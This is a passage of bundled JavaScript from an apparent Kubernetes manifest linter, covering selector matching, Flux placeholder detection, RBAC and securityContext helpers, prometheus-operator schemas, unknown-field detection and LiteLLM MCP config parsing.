    return Object.values(map).some((x) => holds(x, key, value, depth + 1));
}
/**
 * The custom resource in the Service's namespace whose operator presumably creates the selected
 * pods: the one that mentions most of the selector's pairs, else the first beside it that may own pods.
 */
function operatorResourceFor(service, selector, objects) {
    let best;
    let bestScore = 0;
    let first;
    for (const obj of objects) {
        if (!(0, label_selector_1.sameNamespace)(service, obj) || !mayOwnPods(obj))
            continue;
        const score = mentions(obj, selector);
        if (score > bestScore)
            [best, bestScore] = [obj, score];
        if (!first && isBeside(service, obj))
            first = obj;
    }
    return best ?? first;
}
/**
 * Surely in the same namespace: both name it, or (a manifest without one goes wherever it is
 * applied) both sit in the same directory.
 */
function isBeside(a, b) {
    if (a.namespace && b.namespace)
        return a.namespace === b.namespace;
    return dirOf(a.file) === dirOf(b.file);
}
function dirOf(file) {
    const slash = file.lastIndexOf('/');
    return slash < 0 ? '' : file.slice(0, slash);
}


/***/ }),

/***/ 87328:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.hasPlaceholder = hasPlaceholder;
/**
 * Placeholders that a tool replaces before the API server sees the manifest: Flux post-build
 * substitution (`${VAR}`, `${VAR:=default}`, `${VAR:-default}`, from `postBuild.substitute`) and the
 * `$(VAR)` expansion of Kubernetes and Argo CD. Flux substitutes text before it parses the YAML, so a
 * value that holds one is unknown: it may become a number, an enum value or a whole object.
 */
const PLACEHOLDER = /\$\{[#!]?[A-Za-z_][A-Za-z0-9_]*[^}\n]*\}|\$\([A-Za-z_][A-Za-z0-9_]*\)/;
/** Whether a value is a string holding a substitution placeholder (`${ACCESS_MODE}`, `${CPU}m`, `$(POD_NAME)`). */
function hasPlaceholder(value) {
    return typeof value === 'string' && PLACEHOLDER.test(value);
}


/***/ }),

/***/ 95002:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.containerSecurityContext = containerSecurityContext;
exports.podSecurityContext = podSecurityContext;
exports.effectiveSetting = effectiveSetting;
exports.isRunnable = isRunnable;
const objects_1 = __webpack_require__(35704);
function record(v) {
    return v && typeof v === 'object' && !Array.isArray(v) ? v : undefined;
}
/** The container's `securityContext` as a map (empty when absent or malformed). */
function containerSecurityContext(container) {
    return record(container.value.securityContext) ?? {};
}
function podSecurityContext(obj) {
    return record((0, objects_1.podSpecOf)(obj)?.securityContext) ?? {};
}
/**
 * A setting that exists on both the pod and the container securityContext (runAsNonRoot,
 * runAsUser, seccompProfile...): the container wins.
 */
function effectiveSetting(obj, container, key) {
    const sc = containerSecurityContext(container);
    if (sc[key] !== undefined && sc[key] !== null)
        return { value: sc[key], path: [...container.path, 'securityContext', key], source: 'container' };
    const pod = podSecurityContext(obj);
    const specPath = (0, objects_1.podSpecPath)(obj) ?? [];
    if (pod[key] !== undefined && pod[key] !== null)
        return { value: pod[key], path: [...specPath, 'securityContext', key], source: 'pod' };
    return { value: undefined, path: container.path, source: 'unset' };
}
/** Containers that run the workload: init and regular containers (ephemeral debug containers are not in manifests). */
function isRunnable(container) {
    return container.kind !== 'ephemeralContainer';
}


/***/ }),

/***/ 93447:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.PodTemplateIndex = void 0;
exports.servicesSelecting = servicesSelecting;
exports.monitorsIn = monitorsIn;
/**
 * The objects of a run looked up by namespace, built once per run's object list: set checks and
 * repository checks compare many pairs (workload and Service, workload and monitor), and a scan of
 * every object per workload made them quadratic.
 */
const objects_1 = __webpack_require__(35704);
const label_selector_1 = __webpack_require__(83758);
/** Entries grouped by their object's namespace; `near` gives the ones sameNamespace accepts. */
class NamespaceIndex {
    byNamespace = new Map();
    unnamespaced = [];
    all = [];
    add(entry) {
        this.all.push(entry);
        const ns = entry.object.namespace;
        if (!ns)
            this.unnamespaced.push(entry);
        else {
            const list = this.byNamespace.get(ns);
            if (list)
                list.push(entry);
            else
                this.byNamespace.set(ns, [entry]);
        }
    }
    /** Entries that may share `obj`'s namespace (see sameNamespace in label-selector.ts). */
    near(obj) {
        if (!obj.namespace)
            return this.all;
        const same = this.byNamespace.get(obj.namespace) ?? [];
        return this.unnamespaced.length ? [...same, ...this.unnamespaced] : same;
    }
}
/** Workloads with their pod labels computed once. */
class PodTemplateIndex {
    index = new NamespaceIndex();
    constructor(objects) {
        for (const workload of objects)
            if ((0, objects_1.isWorkload)(workload))
                this.index.add({ workload, object: workload, labels: (0, objects_1.podLabelsOf)(workload) });
    }
    near(obj) {
        return this.index.near(obj);
    }
}
exports.PodTemplateIndex = PodTemplateIndex;
const indexes = new WeakMap();
function indexOf(objects) {
    let index = indexes.get(objects);
    if (!index) {
        index = { services: new Map(), order: new Map(), monitors: [] };
        objects.forEach((object, i) => {
            if (object.kind === 'PodMonitor' || object.kind === 'ServiceMonitor')
                index.monitors.push(object);
            if (object.kind !== 'Service')
                return;
            const selector = object.value.spec?.selector;
            // A Service without a selector (or an empty one) selects no pods.
            const first = selector && typeof selector === 'object' && !Array.isArray(selector) ? Object.entries(selector)[0] : undefined;
            if (!first)
                return;
            const ns = object.namespace ?? '';
            let bySelector = index.services.get(ns);
            if (!bySelector)
                index.services.set(ns, (bySelector = new Map()));
            const key = `${first[0]}\0${String(first[1])}`;
            const list = bySelector.get(key);
            if (list)
                list.push(object);
            else
                bySelector.set(key, [object]);
            index.order.set(object, i);
        });
        indexes.set(objects, index);
    }
    return index;
}
/**
 * The Services of `objects` whose selector picks pods with `podLabels` in `workload`'s namespace
 * (see sameNamespace): only Services whose first selector pair is one of the pod's labels are
 * compared in full.
 */
function servicesSelecting(workload, podLabels, objects) {
    const index = indexOf(objects);
    const buckets = workload.namespace ? [index.services.get(workload.namespace), index.services.get('')] : [...index.services.values()];
    const found = new Set();
    for (const bucket of buckets) {
        if (!bucket)
            continue;
        for (const [k, v] of Object.entries(podLabels)) {
            for (const svc of bucket.get(`${k}\0${v}`) ?? [])
                if ((0, label_selector_1.matchesLabelMap)(svc.value.spec?.selector, podLabels))
                    found.add(svc);
        }
    }
    return [...found].sort((a, b) => index.order.get(a) - index.order.get(b));
}
/** The PodMonitors and ServiceMonitors among `objects`. */
function monitorsIn(objects) {
    return indexOf(objects).monitors;
}


/***/ }),

/***/ 58382:
/***/ ((__unused_webpack_module, exports) => {


/**
 * Small hand-written schemas for the prometheus-operator resources MCP stacks ship most often,
 * shaped like the openAPIV3Schema of their CustomResourceDefinitions. They check structure and types;
 * unknown fields are allowed because new operator releases keep adding them. A CRD in the
 * repository wins over these.
 */
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.PROMETHEUS_OPERATOR_SCHEMAS = void 0;
const DURATION = '^(0|(([0-9]+)y)?(([0-9]+)w)?(([0-9]+)d)?(([0-9]+)h)?(([0-9]+)m)?(([0-9]+)s)?(([0-9]+)ms)?)$';
const duration = { type: 'string', pattern: DURATION };
const stringMap = { type: 'object', additionalProperties: { type: 'string' } };
const labelSelector = {
    type: 'object',
    properties: {
        matchLabels: stringMap,
        matchExpressions: {
            type: 'array',
            items: {
                type: 'object',
                required: ['key', 'operator'],
                properties: { key: { type: 'string' }, operator: { type: 'string' }, values: { type: 'array', items: { type: 'string' } } },
            },
        },
    },
    'x-kubernetes-map-type': 'atomic',
};
const relabelConfigs = { type: 'array', items: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } };
const endpoint = {
    type: 'object',
    'x-kubernetes-preserve-unknown-fields': true,
    properties: {
        port: { type: 'string' },
        targetPort: { anyOf: [{ type: 'integer' }, { type: 'string' }], 'x-kubernetes-int-or-string': true },
        path: { type: 'string' },
        scheme: { type: 'string', enum: ['http', 'https', 'HTTP', 'HTTPS'] },
        params: { type: 'object', additionalProperties: { type: 'array', items: { type: 'string' } } },
        interval: duration,
        scrapeTimeout: duration,
        honorLabels: { type: 'boolean' },
        honorTimestamps: { type: 'boolean' },
        followRedirects: { type: 'boolean' },
        enableHttp2: { type: 'boolean' },
        filterRunning: { type: 'boolean' },
        metricRelabelings: relabelConfigs,
        relabelings: relabelConfigs,
        tlsConfig: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true },
        bearerTokenSecret: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true },
        basicAuth: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true },
        authorization: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true },
        oauth2: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true },
    },
};
const serviceMonitor = {
    type: 'object',
    required: ['spec'],
    properties: {
        apiVersion: { type: 'string' },
        kind: { type: 'string' },
        metadata: { type: 'object' },
        spec: {
            type: 'object',
            required: ['selector'],
            'x-kubernetes-preserve-unknown-fields': true,
            properties: {
                endpoints: { type: 'array', items: endpoint },
                selector: labelSelector,
                namespaceSelector: {
                    type: 'object',
                    properties: { any: { type: 'boolean' }, matchNames: { type: 'array', items: { type: 'string' } } },
                },
                jobLabel: { type: 'string' },
                targetLabels: { type: 'array', items: { type: 'string' } },
                podTargetLabels: { type: 'array', items: { type: 'string' } },
                sampleLimit: { type: 'integer', format: 'int64', minimum: 0 },
                targetLimit: { type: 'integer', format: 'int64', minimum: 0 },
                labelLimit: { type: 'integer', format: 'int64', minimum: 0 },
                scrapeClass: { type: 'string', minLength: 1 },
                attachMetadata: { type: 'object', properties: { node: { type: 'boolean' } } },
            },
        },
    },
};
const rule = {
    type: 'object',
    required: ['expr'],
    'x-kubernetes-preserve-unknown-fields': true,
    properties: {
        alert: { type: 'string' },
        record: { type: 'string' },
        expr: { anyOf: [{ type: 'integer' }, { type: 'string' }], 'x-kubernetes-int-or-string': true },
        for: duration,
        keep_firing_for: { type: 'string', minLength: 1, pattern: DURATION },
        labels: stringMap,
        annotations: stringMap,
    },
};
const prometheusRule = {
    type: 'object',
    required: ['spec'],
    properties: {
        apiVersion: { type: 'string' },
        kind: { type: 'string' },
        metadata: { type: 'object' },
        spec: {
            type: 'object',
            'x-kubernetes-preserve-unknown-fields': true,
            properties: {
                groups: {
                    type: 'array',
                    items: {
                        type: 'object',
                        required: ['name'],
                        'x-kubernetes-preserve-unknown-fields': true,
                        properties: {
                            name: { type: 'string', minLength: 1 },
                            interval: duration,
                            query_offset: duration,
                            limit: { type: 'integer' },
                            partial_response_strategy: { type: 'string', pattern: '^([Aa][Bb][Oo][Rr][Tt]|[Ww][Aa][Rr][Nn])?$' },
                            labels: stringMap,
                            rules: { type: 'array', items: rule },
                        },
                    },
                    'x-kubernetes-list-type': 'map',
                    'x-kubernetes-list-map-keys': ['name'],
                },
            },
        },
    },
};
/** `group/version/Kind` -> openAPIV3Schema. */
exports.PROMETHEUS_OPERATOR_SCHEMAS = new Map([
    ['monitoring.coreos.com/v1/ServiceMonitor', serviceMonitor],
    ['monitoring.coreos.com/v1/PrometheusRule', prometheusRule],
]);


/***/ }),

/***/ 93376:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.isRbacRole = isRbacRole;
exports.rulesOf = rulesOf;
exports.grants = grants;
const strings = (v) => (Array.isArray(v) ? v.filter((x) => typeof x === 'string') : []);
function isRbacRole(obj) {
    return (obj.kind === 'Role' || obj.kind === 'ClusterRole') && obj.apiVersion.startsWith('rbac.authorization.k8s.io/');
}
function rulesOf(obj) {
    if (!isRbacRole(obj) || !Array.isArray(obj.value.rules))
        return [];
    const out = [];
    obj.value.rules.forEach((r, index) => {
        if (!r || typeof r !== 'object')
            return;
        const rule = r;
        out.push({
            index,
            path: ['rules', index],
            apiGroups: strings(rule.apiGroups),
            resources: strings(rule.resources),
            verbs: strings(rule.verbs),
            resourceNames: strings(rule.resourceNames),
        });
    });
    return out;
}
/** Whether the rule grants `verb` on `resource` in the core group (wildcards included). */
function grants(rule, resource, verb, group = '') {
    return ((rule.apiGroups.includes('*') || rule.apiGroups.includes(group)) &&
        (rule.resources.includes('*') || rule.resources.includes(resource)) &&
        (rule.verbs.includes('*') || rule.verbs.includes(verb)));
}


/***/ }),

/***/ 93767:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.REPLICATED_KINDS = void 0;
exports.autoscalerFor = autoscalerFor;
exports.replicasOf = replicasOf;
const label_selector_1 = __webpack_require__(83758);
/** Controllers whose `spec.replicas` defaults to 1. */
exports.REPLICATED_KINDS = new Set(['Deployment', 'StatefulSet', 'ReplicaSet', 'ReplicationController']);
/** The autoscalers among a set of objects, computed once per set (checks ask for every controller). */
const autoscalersBySet = new WeakMap();
function autoscalerFor(obj, objects) {
    let autoscalers = autoscalersBySet.get(objects);
    if (!autoscalers)
        autoscalersBySet.set(objects, (autoscalers = objects.filter((o) => o.kind === 'HorizontalPodAutoscaler')));
    return autoscalers.find((o) => {
        if (!(0, label_selector_1.sameNamespace)(o, obj))
            return false;
        const ref = o.value.spec?.scaleTargetRef;
        return !!ref && typeof ref === 'object' && ref.kind === obj.kind && ref.name === obj.name;
    });
}
/** The replica floor of a replicated controller, or undefined for other kinds or unreadable values (templated `{{ .Values.x }}`). */
function replicasOf(obj, objects = []) {
    if (!exports.REPLICATED_KINDS.has(obj.kind))
        return undefined;
    const hpa = autoscalerFor(obj, objects);
    if (hpa) {
        const min = hpa.value.spec?.minReplicas;
        if (min === undefined || min === null)
            return { count: 1, source: 'autoscaler', object: hpa, path: ['spec', 'minReplicas'] };
        return typeof min === 'number' ? { count: min, source: 'autoscaler', object: hpa, path: ['spec', 'minReplicas'] } : undefined;
    }
    const spec = obj.value.spec;
    const replicas = spec && typeof spec === 'object' ? spec.replicas : undefined;
    if (replicas === undefined || replicas === null)
        return { count: 1, source: 'default', object: obj, path: ['spec', 'replicas'] };
    return typeof replicas === 'number' ? { count: replicas, source: 'replicas', object: obj, path: ['spec', 'replicas'] } : undefined;
}


/***/ }),

/***/ 80757:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.loadBuiltInModels = loadBuiltInModels;
exports.validateBuiltIn = validateBuiltIn;
exports.groupOf = groupOf;
exports.versionOf = versionOf;
exports.isBuiltInGroup = isBuiltInGroup;
exports.summarizeSchemaErrors = summarizeSchemaErrors;
exports.isClientSideConfig = isClientSideConfig;
const yaml_tree_1 = __webpack_require__(43183);
const placeholders_1 = __webpack_require__(87328);
const unknown_fields_1 = __webpack_require__(45230);
/** The models of the built-in kinds, from their own chunk of the bundle. */
async function loadBuiltInModels() {
    return (await Promise.all(/* import() */[__webpack_require__.e(3153), __webpack_require__.e(4605)]).then(__webpack_require__.t.bind(__webpack_require__, 24605, 23))).builtInModels();
}
/** What each model's validator has been seen to read (unknown-fields.ts), for as long as the model is loaded. */
const learnedByModel = new WeakMap();
/**
 * Validates a built-in object; returns undefined when no schema is known for its apiVersion/kind,
 * an empty list when it is valid.
 */
function validateBuiltIn(models, apiVersion, kind, value) {
    const cls = models.get(`${apiVersion}/${kind}`);
    if (!cls)
        return undefined;
    if (!value || typeof value !== 'object')
        return [{ instancePath: '', keyword: 'type', message: 'must be object', params: { type: 'object' } }];
    // The model's validate function, run on the manifest itself (unknown-fields.ts records the fields it reads).
    let learned = learnedByModel.get(cls);
    if (!learned)
        learnedByModel.set(cls, (learned = new Map()));
    const { thrown, unknownFields } = (0, unknown_fields_1.validateLearningFields)(cls.prototype.validate, value, learned);
    if (thrown === undefined)
        return unknownFields;
    const errors = thrown.errors;
    if (Array.isArray(errors))
        return [...errors.filter((x) => !!x && typeof x.instancePath === 'string'), ...unknownFields];
    return [{ instancePath: '', keyword: 'exception', message: thrown instanceof Error ? thrown.message : String(thrown) }];
}
/** API groups served by Kubernetes itself (the empty string is the core group). */
const BUILT_IN_GROUPS = new Set([
    '',
    'admissionregistration.k8s.io',
    'apiextensions.k8s.io',
    'apiregistration.k8s.io',
    'apps',
    'authentication.k8s.io',
    'authorization.k8s.io',
    'autoscaling',
    'batch',
    'certificates.k8s.io',
    'coordination.k8s.io',
    'discovery.k8s.io',
    'events.k8s.io',
    'extensions',
    'flowcontrol.apiserver.k8s.io',
    'internal.apiserver.k8s.io',
    'networking.k8s.io',
    'node.k8s.io',
    'policy',
    'rbac.authorization.k8s.io',
    'resource.k8s.io',
    'scheduling.k8s.io',
    'storage.k8s.io',
    'storagemigration.k8s.io',
]);
/** `apps/v1` -> `apps`, `v1` -> `` (core). */
function groupOf(apiVersion) {
    const slash = apiVersion.indexOf('/');
    return slash < 0 ? '' : apiVersion.slice(0, slash);
}
function versionOf(apiVersion) {
    const slash = apiVersion.indexOf('/');
    return slash < 0 ? apiVersion : apiVersion.slice(slash + 1);
}
function isBuiltInGroup(apiVersion) {
    return BUILT_IN_GROUPS.has(groupOf(apiVersion));
}
/** A path for messages; the object itself is `(root)`. */
function describePath(path) {
    return (0, yaml_tree_1.formatPath)(path) || '(root)';
}
/**
 * Readable problems from ajv-style errors, one per offending field: the alternatives of an
 * int-or-string field ("must be string", "must be integer", "must match exactly one schema in oneOf")
 * become one "must be string or integer".
 */
function summarizeSchemaErrors(root, errors) {
    const groups = new Map();
    for (const e of errors) {
        if (isSubstituted(root, e))
            continue;
        const missing = e.keyword === 'required' ? String(e.params?.missingProperty ?? '') : '';
        const key = `${e.instancePath}\u0000${missing}`;
        groups.set(key, [...(groups.get(key) ?? []), e]);
    }
    const out = [];
    for (const group of groups.values()) {
        const first = group[0];
        const base = (0, yaml_tree_1.pointerToPath)(root, first.instancePath);
        const params = first.params ?? {};
        if (first.keyword === 'required' && typeof params.missingProperty === 'string') {
            out.push({ path: base, message: `${describePath([...base, params.missingProperty])}: required field is missing` });
            continue;
        }
        if (first.keyword === 'additionalProperties' && typeof params.additionalProperty === 'string') {
            const path = [...base, params.additionalProperty];
            const hint = typeof params.suggestion === 'string' ? `; did you mean "${params.suggestion}"?` : '';
            out.push({ path, message: `${describePath(path)}: unknown field${hint}` });
            continue;
        }
        const types = [...new Set(group.filter((e) => e.keyword === 'type').flatMap((e) => [e.params?.type].flat().map(String)))];
        if (types.length) {
            out.push({ path: base, message: `${describePath(base)}: must be ${types.join(' or ')}` });
            continue;
        }
        const main = group.find((e) => e.keyword !== 'oneOf' && e.keyword !== 'anyOf') ?? first;
        const allowed = main.params?.allowedValues;
        if (main.keyword === 'enum' && Array.isArray(allowed)) {
            out.push({ path: base, message: `${describePath(base)}: must be one of ${allowed.map((v) => JSON.stringify(v)).join(', ')}` });
            continue;
        }
        out.push({ path: base, message: `${describePath(base)}: ${main.message ?? main.keyword}` });
    }
    return out;
}
/**
 * Whether an error is about a value (or a field name) that holds a Flux `${VAR}` or `$(VAR)`
 * placeholder (placeholders.ts): its real value is only known after substitution, so its type,
 * enum or pattern cannot be judged.
 */
function isSubstituted(root, e) {
    if (e.keyword === 'additionalProperties' && (0, placeholders_1.hasPlaceholder)(e.params?.additionalProperty))
        return true;
    const node = (0, yaml_tree_1.getNode)(root, (0, yaml_tree_1.pointerToPath)(root, e.instancePath));
    return node?.kind === 'scalar' && (0, placeholders_1.hasPlaceholder)(node.value);
}
/**
 * Groups of files that look like manifests (apiVersion + kind) but configure a client-side tool
 * and are never sent to the API server: kustomize, kind, k3d, kubeadm, skaffold...
 */
const CLIENT_SIDE_GROUPS = new Set([
    'kustomize.config.k8s.io',
    'config.kubernetes.io',
    'kind.x-k8s.io',
    'k3d.io',
    'kubeadm.k8s.io',
    'kubelet.config.k8s.io',
    'kubeproxy.config.k8s.io',
    'kubescheduler.config.k8s.io',
    'apiserver.config.k8s.io',
    'audit.k8s.io',
    'client.authentication.k8s.io',
    'skaffold',
    'ctlptl.dev',
    // flux-schema's own settings (.fluxschema.yml), read by `flux-schema validate`.
    'schema.plugin.fluxcd.io',
]);
function isClientSideConfig(apiVersion, kind) {
    return CLIENT_SIDE_GROUPS.has(groupOf(apiVersion)) || (apiVersion === 'v1' && kind === 'Config');
}


/***/ }),

/***/ 45230:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.validateRecordingFields = validateRecordingFields;
exports.validateLearningFields = validateLearningFields;
/**
 * Unknown fields of built-in kinds. The precompiled validators of `kubernetes-models` do not check
 * additionalProperties, but they read every property their schema defines. Running one on a proxy
 * that records the properties read shows which keys no schema knows: a typo (`restartPolicyy`), a
 * field at the wrong level, or one from another kind. kubectl (`--validate=strict`, its default)
 * and the API server reject them.
 *
 * An object the validator enumerated (a map such as labels, annotations, data or resource limits)
 * or never looked into (free-form JSON such as a CRD's `default`) has no unknown keys.
 */
const did_you_mean_1 = __webpack_require__(87568);
/**
 * Keys the models' schemas leave out although the API defines them: every `description` (a
 * PriorityClass's, a JSON schema's) and the `x-kubernetes-*` extensions.
 */
const UNCHECKED_KEY = /^(description|x-kubernetes-.*)$/;
/** A CRD's openAPIV3Schema is a JSON schema, with vendor extensions the models do not list. */
const FREE_SUBTREE = /\/openAPIV3Schema(\/|$)/;
function escapePointer(key) {
    return key.includes('~') || key.includes('/') ? key.replace(/~/g, '~0').replace(/\//g, '~1') : key;
}
function tracked(value, pointer, shape, visits) {
    const isArray = Array.isArray(value);
    const visit = isArray ? undefined : { pointer, shape, value: value, read: new Set(), isEnumerated: false };
    if (visit)
        visits.push(visit);
    const children = new Map();
    return new Proxy(value, {
        get(target, key, receiver) {
            const v = Reflect.get(target, key, receiver);
            if (typeof key !== 'string')
                return v;
            visit?.read.add(key);
            if (!v || typeof v !== 'object' || !Object.prototype.hasOwnProperty.call(target, key))
                return v;
            let child = children.get(key);
            if (!child) {
                const segment = escapePointer(key);
                children.set(key, (child = tracked(v, `${pointer}/${segment}`, `${shape}/${isArray ? '*' : segment}`, visits)));
            }
            return child;
        },
        has(target, key) {
            if (typeof key === 'string')
                visit?.read.add(key);
            return Reflect.has(target, key);
        },
        ownKeys(target) {
            if (visit)
                visit.isEnumerated = true;
            return Reflect.ownKeys(target);
        },
    });
}
/**
 * Runs `validate` with `this` bound to a recording view of `value`; returns what it threw (if
 * anything) and an ajv-style additionalProperties error for each key no schema read.
 */
function validateRecordingFields(validate, value, visits = []) {
    let thrown;
    try {
        validate.call(tracked(value, '', '', visits));
    }
    catch (e) {
        thrown = e;
    }
    const unknownFields = [];
    for (const v of visits) {
        if (v.isEnumerated || v.read.size === 0 || FREE_SUBTREE.test(v.pointer))
            continue;
        // The properties the schema looked up are the ones it knows.
        const known = [...v.read];
        for (const key of Object.keys(v.value)) {
            if (v.read.has(key) || UNCHECKED_KEY.test(key))
                continue;
            const suggestion = (0, did_you_mean_1.suggest)(key, known);
            unknownFields.push({
                instancePath: v.pointer,
                keyword: 'additionalProperties',
                message: 'must NOT have additional properties',
                params: { additionalProperty: key, ...(suggestion ? { suggestion } : {}) },
            });
        }
    }
    return { thrown, unknownFields };
}
/**
 * validateRecordingFields, without the recording where it would find nothing: an object whose every
 * key at every place was read there before, by a run that did not throw, is validated as it is,
 * about four times faster than through the recording view. Anything else (a key or a place not seen
 * yet, an object the validator rejects) takes the recording run, which teaches `learned` its reads.
 */
function validateLearningFields(validate, value, learned) {
    if (learned.size > 0 && isEveryFieldKnown(value, '', learned)) {
        try {
            validate.call(value);
            return { unknownFields: [] };
        }
        catch {
            // Rejected: the recording run below gives the errors with the fields, as before.
        }
    }
    const visits = [];
    const result = validateRecordingFields(validate, value, visits);
    if (result.thrown === undefined) {
        // A run that threw stopped reading: what it left unread says nothing.
        for (const v of visits) {
            const had = learned.get(v.shape);
            if (had === 'any')
                continue;
            if (v.isEnumerated || v.read.size === 0 || FREE_SUBTREE.test(v.shape))
                learned.set(v.shape, 'any');
            else if (had)
                for (const key of v.read)
                    had.add(key);
            else
                learned.set(v.shape, new Set(v.read));
        }
    }
    return result;
}
function isEveryFieldKnown(value, shape, learned) {
    if (Array.isArray(value)) {
        const items = value;
        for (const item of items)
            if (item && typeof item === 'object' && !isEveryFieldKnown(item, `${shape}/*`, learned))
                return false;
        return true;
    }
    const known = learned.get(shape);
    if (known === undefined)
        return false;
    const record = value;
    for (const key of Object.keys(record)) {
        if (known !== 'any' && !known.has(key) && !UNCHECKED_KEY.test(key))
            return false;
        const v = record[key];
        if (v !== null && typeof v === 'object' && !isEveryFieldKnown(v, `${shape}/${escapePointer(key)}`, learned))
            return false;
    }
    return true;
}


/***/ }),

/***/ 8574:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.unmatchedServices = unmatchedServices;
/**
 * Services whose selector matches no pod template among the manifests, while workloads sit in
 * their namespace (without any, the pods are deployed from elsewhere and nothing can be said).
 */
const label_selector_1 = __webpack_require__(83758);
const objects_1 = __webpack_require__(35704);
const operator_workloads_1 = __webpack_require__(77581);
const pod_template_index_1 = __webpack_require__(93447);
const cache = new WeakMap();
function unmatchedServices(objects) {
    const cached = cache.get(objects);
    if (cached)
        return cached;
    const index = new pod_template_index_1.PodTemplateIndex(objects);
    const out = [];
    for (const service of objects) {
        if (service.kind !== 'Service' || service.apiVersion !== 'v1')
            continue;
        const spec = service.value.spec;
        if (!spec || typeof spec !== 'object' || spec.type === 'ExternalName')
            continue;
        const selector = spec.selector;
        if (!selector || typeof selector !== 'object' || Array.isArray(selector) || !Object.keys(selector).length)
            continue;
        const candidates = index.near(service);
        if (!candidates.length || candidates.some((c) => (0, label_selector_1.matchesLabelMap)(selector, c.labels)))
            continue;
        out.push({ service, selector, operatorResource: (0, operator_workloads_1.operatorResourceFor)(service, (0, objects_1.asStringMap)(selector), objects) });
    }
    cache.set(objects, out);
    return out;
}


/***/ }),

/***/ 75581:
/***/ ((__unused_webpack_module, exports) => {


/** Kind tables shared by several checks. */
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.CLUSTER_SCOPED_KINDS = exports.LONG_RUNNING_KINDS = void 0;
/** Long-running controllers; Jobs, CronJobs and bare Pods run to completion or are managed elsewhere. */
exports.LONG_RUNNING_KINDS = new Set(['Deployment', 'StatefulSet', 'DaemonSet', 'ReplicaSet', 'ReplicationController']);
/** Built-in kinds that are not namespaced. */
exports.CLUSTER_SCOPED_KINDS = new Set([
    'Namespace',
    'Node',
    'PersistentVolume',
    'ClusterRole',
    'ClusterRoleBinding',
    'CustomResourceDefinition',
    'StorageClass',
    'VolumeAttachment',
    'CSIDriver',
    'CSINode',
    'PriorityClass',
    'RuntimeClass',
    'IngressClass',
    'MutatingWebhookConfiguration',
    'ValidatingWebhookConfiguration',
    'ValidatingAdmissionPolicy',
    'ValidatingAdmissionPolicyBinding',
    'MutatingAdmissionPolicy',
    'MutatingAdmissionPolicyBinding',
    'APIService',
    'CertificateSigningRequest',
    'FlowSchema',
    'PriorityLevelConfiguration',
    'PodSecurityPolicy',
    'ComponentStatus',
    'TokenReview',
    'SelfSubjectAccessReview',
    'SelfSubjectRulesReview',
    'SubjectAccessReview',
    'ClusterIssuer',
    'ClusterPolicy',
]);


/***/ }),

/***/ 73342:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.LITELLM_DEFAULT_TRANSPORT = void 0;
exports.findLiteLlmConfigs = findLiteLlmConfigs;
exports.parseLiteLlmConfig = parseLiteLlmConfig;
exports.parseEntryUrl = parseEntryUrl;
exports.transportOfPath = transportOfPath;
exports.isEntryFor = isEntryFor;
exports.bareName = bareName;
const list_services_1 = __webpack_require__(63251);
/** LiteLLM connects with SSE when an entry names no transport. */
exports.LITELLM_DEFAULT_TRANSPORT = 'sse';
const TRANSPORTS = {
    sse: 'sse',
    http: 'http',
    'streamable-http': 'http',
    streamable_http: 'http',
    streamablehttp: 'http',
    stdio: 'stdio',
};
/** Configs per run (its path list) and configured file: four checks ask for the same. */
const configsOf = new WeakMap();
function findLiteLlmConfigs(sources) {
    let byConfigured = configsOf.get(sources.paths);
    if (!byConfigured)
        configsOf.set(sources.paths, (byConfigured = new Map()));
    const key = sources.configured ?? '';
    let configs = byConfigured.get(key);
    if (!configs)
        byConfigured.set(key, (configs = readLiteLlmConfigs(sources)));
    return configs;
}
function readLiteLlmConfigs(sources) {
    const candidates = sources.configured
        ? [sources.configured]
        : sources.paths.filter((p) => /\.ya?ml$/i.test(p) && /^mcp_servers\s*:/m.test(sources.read(p) ?? ''));
    const out = [];
    for (const file of candidates) {
        for (const doc of sources.yaml(file)?.documents ?? []) {
            const config = doc.root ? parseLiteLlmConfig(file, doc.root) : undefined;
            if (config)
                out.push(config);
        }
    }
    return out;
}
function parseLiteLlmConfig(file, root) {
    if (root.kind !== 'map')
        return undefined;
    const servers = root.entries.get('mcp_servers');
    if (!servers || (servers.kind !== 'map' && servers.kind !== 'seq'))
        return undefined;
    const entries = [];
    const add = (name, node, keyLoc) => {
        if (node.kind !== 'map') {
            entries.push({ name, loc: keyLoc });
            return;
        }
        const text = (key) => {
            const n = node.entries.get(key);
            return n?.kind === 'scalar' && n.value !== null && n.value !== '' ? { value: String(n.value), loc: n.loc } : {};
        };
        const url = text('url');
        const transport = text('transport');
        entries.push({
            name,
            url: url.value,
            urlLoc: url.loc,
            rawTransport: transport.value,
            transport: transport.value ? TRANSPORTS[transport.value.toLowerCase()] : undefined,
            command: text('command').value,
            loc: keyLoc,
        });
    };
    if (servers.kind === 'map') {
        for (const [name, node] of servers.entries)
            add(name, node, node.keyLoc ?? node.loc);
    }
    else {
        servers.items.forEach((item, i) => {
            const named = item.kind === 'map' ? (item.entries.get('name') ?? item.entries.get('server_name')) : undefined;
            add(named?.kind === 'scalar' && named.value !== null ? String(named.value) : `#${i + 1}`, item, item.loc);
        });
    }
    return { file, loc: servers.keyLoc ?? servers.loc, entries };
}
function parseEntryUrl(url) {
    let parsed;
    try {
        parsed = new URL(url);
    }
